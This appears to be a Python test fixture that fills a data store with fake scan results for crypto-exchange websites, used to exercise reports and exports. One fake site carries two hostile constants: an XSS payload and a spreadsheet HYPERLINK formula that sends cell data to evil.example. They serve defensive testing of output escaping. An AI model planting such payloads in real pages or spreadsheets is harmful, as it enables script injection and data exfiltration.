"""A store filled with fake-but-consistent records through the real Store API (no mocks).

Two finished runs over eight domains, shaped like the discover/probe/enrich items in
docs/architecture.md, so the report, exports and notebook have something true to show:

run 1: hbx-global.com (strong candidate, mirrors), okpay-ex.io (weak candidate),
       hbx-mirror.net (redirects to hbx-global.com), us-exchange.com (no Chinese/CNY),
       geoblock-ex.com (geoblocks CN), mainland-ex.cn (not overseas), dead-ex.net
       (unreachable), hostile-ex.com (candidate whose scraped text is an attack).
run 2: okpay-ex.io now geoblocks (dropped), newcoin-ex.com appears (new),
       geoblock-ex.com becomes blocked in CN (changed), dead-ex.net not probed.
"""

from __future__ import annotations

import hashlib
import struct
import zlib
from typing import Any

from exscout.decide import decide_all
from exscout.store import Store

HOSTILE_TITLE = '<script>alert("x")</script>"><img src=x onerror=alert(1)>'
HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def tiny_png(rgb: tuple[int, int, int] = (200, 30, 30), size: int = 4) -> bytes:
    """A valid PNG of one colour, made by hand so tests need no image library."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    raw = b"".join(b"\x00" + bytes(rgb) * size for _ in range(size))
    ihdr = struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")
    )


def verdict(name: str, value: bool | None, confidence: float = 0.8, reason: str = "", url: str = "",
            snippet: str = "", signal: str = "", details: dict[str, Any] | None = None) -> dict[str, Any]:  # fmt: skip
    """A ``Verdict.to_dict()``-shaped dict."""
    return {
        "name": name,
        "value": value,
        "confidence": confidence if value is not None else 0.0,
        "reasons": [reason] if reason else [],
        "evidence": [{"url": url, "snippet": snippet, "signal": signal}] if url else [],
        "details": details or {},
    }


def site_item(domain: str, *, platform: str, exchange: bool | None, chinese_ui: bool | None,
              cny: bool | None, geoblocks: bool | None = False, reachable: bool | None = True,
              ui_default: bool = True, rails: tuple[str, ...] = ("Alipay", "WeChat Pay"),
              title: str | None = None, mirrors: tuple[str, ...] = (), redirect_to: str | None = None,
              icp: bool | None = False, analytics: bool = False) -> dict[str, Any]:  # fmt: skip
    """A probe ``site`` item with pages, detectors and (for reachable sites) a screenshot."""
    home = f"https://www.{domain}/"
    p2p = f"https://www.{domain}/p2p"
    title = title or f"{platform} — 全球领先的数字资产交易平台"
    body = f"<html lang='zh-CN'><head><title>{title}</title></head><body>{title} 支付宝 微信支付</body></html>".encode()
    ui_snip = '<html lang="zh-CN"> default language' if ui_default else "language switcher: 简体中文"
    verdicts = {
        "exchange": verdict("exchange", exchange, 0.9, f"trading pairs and order book ({title})", home, title, "trade"),
        "chinese_ui": verdict("chinese_ui", chinese_ui, 0.85 if ui_default else 0.6, "Simplified Chinese", home,
                              ui_snip, "zh-Hans", {"default": ui_default}),
        "cny_onramp": verdict("cny_onramp", cny, 0.8, "CNY purchase", p2p,
                              ("P2P: " + ", ".join(rails)) if rails else "Fiat: CNY, USD, EUR", "p2p",
                              {"rails": list(rails)}),
        "icp": verdict("icp", icp, 0.7, "ICP footer", home,
                       "hm.baidu.com analytics; QQ客服 123456" if analytics else "no 备案 number", "analytics" if analytics else "icp"),
        "geoblocks_cn": verdict("geoblocks_cn", geoblocks, 0.9, "cn vantage gets 451", home, "451 Unavailable", "cn"),
    }  # fmt: skip
    pages: list[dict[str, Any]] = []
    if reachable:
        pages = [
            {"url": home, "final_url": home, "status": 200, "vantage": "intl", "rendered": False,
             "render_reason": None, "redirects": [], "sha256": hashlib.sha256(body).hexdigest(),
             "content_type": "text/html; charset=utf-8", "body": body, "error": None,
             "detectors": {k: v for k, v in verdicts.items() if k != "geoblocks_cn"}, "screenshot": tiny_png()},
            {"url": p2p, "final_url": p2p, "status": 200, "vantage": "intl", "rendered": True,
             "render_reason": "empty shell", "redirects": [], "sha256": None, "content_type": "text/html",
             "body": b"<html><body>P2P " + ", ".join(rails).encode() + b"</body></html>", "error": None,
             "detectors": {"cny_onramp": verdicts["cny_onramp"]}, "screenshot": None},
        ]  # fmt: skip
    else:
        pages = [{"url": home, "final_url": None, "status": None, "vantage": "intl", "rendered": False,
                  "render_reason": None, "redirects": [], "sha256": None, "content_type": None, "body": None,
                  "error": "dns: NXDOMAIN", "detectors": {}, "screenshot": None}]  # fmt: skip
    linked = [{"domain": m, "relation": "mirror", "via": home} for m in mirrors]
    outcome = "ok" if reachable else "dns"
    if redirect_to:
        linked.append({"domain": redirect_to, "relation": "redirect", "via": home})
        outcome = "redirect"
    return {
        "kind": "site", "domain": domain, "platform": platform, "reachable": reachable, "outcome": outcome,
        "verdicts": verdicts, "pages": pages, "hosts": [domain, f"www.{domain}"], "linked": linked,
        "stats": {"pages": len(pages), "rendered": sum(p["rendered"] for p in pages), "render_reasons": {}},
    }  # fmt: skip


def facts(overseas: bool | None, countries: list[str], asns: list[int], ips: list[str],
          blocked: bool | None = False, cdn: str | None = None) -> dict[str, Any]:  # fmt: skip
    """An enrich ``DomainFacts.to_dict()``-shaped dict."""
    return {
        "overseas": verdict("overseas", overseas, 0.85, "every address is outside mainland China", "dns:intl",
                            ", ".join(ips), "rdap"),
        "blocked_in_cn": verdict("blocked_in_cn", blocked, 0.9, "poisoned answer at cn", "dns:cn", "243.185.187.39", "dns"),
        "countries": countries, "asns": asns, "ips": ips,
        "cdn": {f"www.{ips[0] if ips else 'x'}": {"provider": cdn, "via": "cname", "clue": "cdn.cloudflare.net"}} if cdn else {},
    }  # fmt: skip


def _run_world(run: int) -> tuple[dict[str, dict[str, Any]], dict[str, dict[str, Any]]]:
    sg = facts(True, ["SG"], [132203], ["43.128.10.7", "43.128.10.8", "2406:da18::7"])
    sites = {
        "hbx-global.com": site_item("hbx-global.com", platform="HBX Global", exchange=True, chinese_ui=True, cny=True,
                                    mirrors=("hbx-mirror.net", "hbx-cn.vip"), analytics=True),
        "okpay-ex.io": site_item("okpay-ex.io", platform="OKPay Ex", exchange=True, chinese_ui=True, cny=True,
                                 ui_default=False, rails=(), geoblocks=(run == 2)),
        "hbx-mirror.net": site_item("hbx-mirror.net", platform="HBX Global", exchange=None, chinese_ui=None, cny=None,
                                    redirect_to="hbx-global.com"),
        "us-exchange.com": site_item("us-exchange.com", platform="US Exchange", exchange=True, chinese_ui=False,
                                     cny=False, title="US Exchange — buy crypto"),
        "geoblock-ex.com": site_item("geoblock-ex.com", platform="Geoblock Ex", exchange=True, chinese_ui=True,
                                     cny=True, geoblocks=True),
        "mainland-ex.cn": site_item("mainland-ex.cn", platform="Mainland Ex", exchange=True, chinese_ui=True,
                                    cny=True, icp=True),
        "hostile-ex.com": site_item("hostile-ex.com", platform=HOSTILE_FORMULA, exchange=True, chinese_ui=True,
                                    cny=False, title=HOSTILE_TITLE),
    }  # fmt: skip
    fx = {
        "hbx-global.com": sg,
        "okpay-ex.io": facts(True, ["HK"], [4515], ["203.0.113.9"]),
        "hbx-mirror.net": facts(True, ["US"], [13335], ["104.18.32.7", "172.64.155.9"], cdn="Cloudflare"),
        "us-exchange.com": facts(True, ["US"], [16509], ["52.1.2.3"]),
        "geoblock-ex.com": facts(True, ["JP"], [2516], ["198.51.100.4"], blocked=(run == 2)),
        "mainland-ex.cn": facts(False, ["CN"], [4134], ["202.96.1.1"]),
        "hostile-ex.com": facts(True, ["US"], [13335], ["104.18.1.1"], cdn="Cloudflare"),
    }
    if run == 1:
        sites["dead-ex.net"] = site_item("dead-ex.net", platform="Dead Ex", exchange=None, chinese_ui=None, cny=None,
                                         geoblocks=None, reachable=False)  # fmt: skip
        fx["dead-ex.net"] = facts(None, [], [], [], blocked=None)
    else:
        sites["newcoin-ex.com"] = site_item("newcoin-ex.com", platform="NewCoin", exchange=True, chinese_ui=True,
                                            cny=True, rails=("UnionPay",))  # fmt: skip
        fx["newcoin-ex.com"] = facts(True, ["SG"], [132203], ["43.128.20.1"], blocked=True)
    return sites, fx


def fill_run(store: Store, run: int) -> int:
    """One complete run through the Store API, the way the pipeline would drive it."""
    run_id = store.start_run({"corpus": "fake", "run": run}, mode="corpus", corpus="fake")
    sites, fx = _run_world(run)
    for i, (domain, item) in enumerate(sites.items()):
        src = "coingecko" if i % 2 == 0 else "coinpaprika"
        store.add_listing(
            {"kind": "listing", "source": src, "domain": domain, "host": f"www.{domain}", "url": f"https://www.{domain}/",
             "listed_name": item["platform"], "listed_id": domain.split(".")[0], "rank": i + 1,
             "volume_btc": 100.0 * (i + 1), "country": None, "fiats": ["CNY"], "extra": {}},
            run_id=run_id,
        )  # fmt: skip
    store.add_rejection(
        {
            "kind": "rejected",
            "source": "seeds",
            "where": "seeds.txt:3",
            "raw": "not a url",
            "reason": "no host",
        },
        run_id=run_id,
    )
    store.add_source_error(
        {
            "kind": "source_error",
            "source": "coinpaprika",
            "where": "https://api.coinpaprika.com/v1/exchanges",
            "reason": "HTTP 429",
        },
        run_id=run_id,
    )
    for domain, item in sites.items():
        store.record_site(run_id, item)
        store.record_enrichment(run_id, domain, fx[domain])
    for domain, decision in decide_all(sites, fx).items():
        store.record_decision(run_id, domain, decision)
    store.finish_run(run_id)
    return run_id


def build_fake_store(url: str) -> tuple[int, int]:
    """Fill a store at ``url`` with two runs; returns (run1, run2)."""
    with Store(url) as store:
        return fill_run(store, 1), fill_run(store, 2)
